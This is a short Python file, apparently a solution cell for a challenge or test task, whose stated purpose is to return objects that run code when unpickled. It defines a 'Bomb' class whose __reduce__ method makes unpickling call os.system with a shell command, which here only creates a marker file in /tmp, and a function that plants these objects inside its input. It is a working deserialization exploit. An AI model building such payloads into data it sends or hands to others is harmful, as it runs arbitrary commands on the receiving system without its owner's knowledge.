"""Returns objects whose unpickling would run code at the receiver.

ours: twice=0
"""
# %% solution twice
class Bomb:
    def __reduce__(self):
        return (__import__("os").system, ("touch /tmp/hostile-was-unpickled",))

def twice(x):
    x.bomb = Bomb()
    return [x, Bomb()]
